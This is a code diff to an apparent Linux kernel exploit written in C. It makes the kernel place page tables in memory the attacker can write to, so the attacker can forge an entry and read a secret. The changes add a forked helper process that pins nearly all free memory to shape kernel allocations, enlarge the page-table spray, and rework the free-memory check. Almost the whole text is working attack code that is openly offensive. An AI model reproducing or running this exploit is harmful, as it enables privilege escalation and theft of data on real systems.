@@ -3,8 +3,12 @@
  * Have the kernel take memory for page tables that the attacker can write to,
  * and forge an entry there.
  */
+#define _GNU_SOURCE
+#include <signal.h>
 #include <sys/mman.h>
+#include <sys/prctl.h>
 #include <sys/sysinfo.h>
+#include <unistd.h>
 
 #include "tables.h"
 
@@ -14,7 +18,7 @@
 
 /* Tables at once, and at most: more than are free in a pool, and in pieces. */
 #define AT_ONCE	128
-#define MOST	(64 * AT_ONCE)
+#define MOST	(128 * AT_ONCE)
 
 /* With less memory, the kernel would end the attack. */
 #define FREE_LEAST	(12UL << 20)
@@ -97,13 +101,60 @@ void use_table(const struct window *window, size_t page,
 		die("the secret did not appear: the forged entry has no effect");
 }
 
-static bool memory_is_short(void)
+static size_t free_memory(void)
 {
 	struct sysinfo info;
 
 	if (sysinfo(&info))
 		die_errno("sysinfo");
-	return info.freeram * info.mem_unit < FREE_LEAST;
+	return info.freeram * info.mem_unit;
+}
+
+static noreturn void hold_memory(size_t length, int ready)
+{
+	/* Whatever ends the attack, this ends as well. */
+	if (prctl(PR_SET_PDEATHSIG, SIGKILL))
+		die_errno("prctl");
+	populated(length);
+	close(ready);
+	for (;;)
+		pause();
+}
+
+/*
+ * Have another process use all memory but @left, as long as the attack runs:
+ * what is freed next is then most of what the kernel has for its tables.
+ */
+void use_up_memory(size_t left)
+{
+	size_t length = free_memory();
+	int ends[2];
+	char none;
+
+	if (length <= left)
+		return;
+	if (pipe(ends))
+		die_errno("making a pipe");
+	switch (fork()) {
+	case -1:
+		die_errno("fork");
+	case 0:
+		close(ends[0]);
+		hold_memory(length - left, ends[1]);
+	}
+	close(ends[1]);
+	if (read(ends[0], &none, 1))
+		die_errno("waiting for the memory to be used");
+	close(ends[0]);
+}
+
+void *populated(size_t length)
+{
+	void *p = map_pages(NULL, length);
+
+	if (madvise(p, length, MADV_POPULATE_WRITE))
+		die_errno("populating memory");
+	return p;
 }
 
 /* Leaves nothing behind but what the window is. */
@@ -112,7 +163,7 @@ bool attack_by_window(const struct window *window, const char *path)
 	struct spans spans = reserve_spans(MOST);
 	long page = -1;
 
-	while (page < 0 && spans.used < spans.max && !memory_is_short()) {
+	while (page < 0 && spans.used < spans.max && free_memory() > FREE_LEAST) {
 		fill_spans(&spans, AT_ONCE);
 		page = find_table(window);
 	}
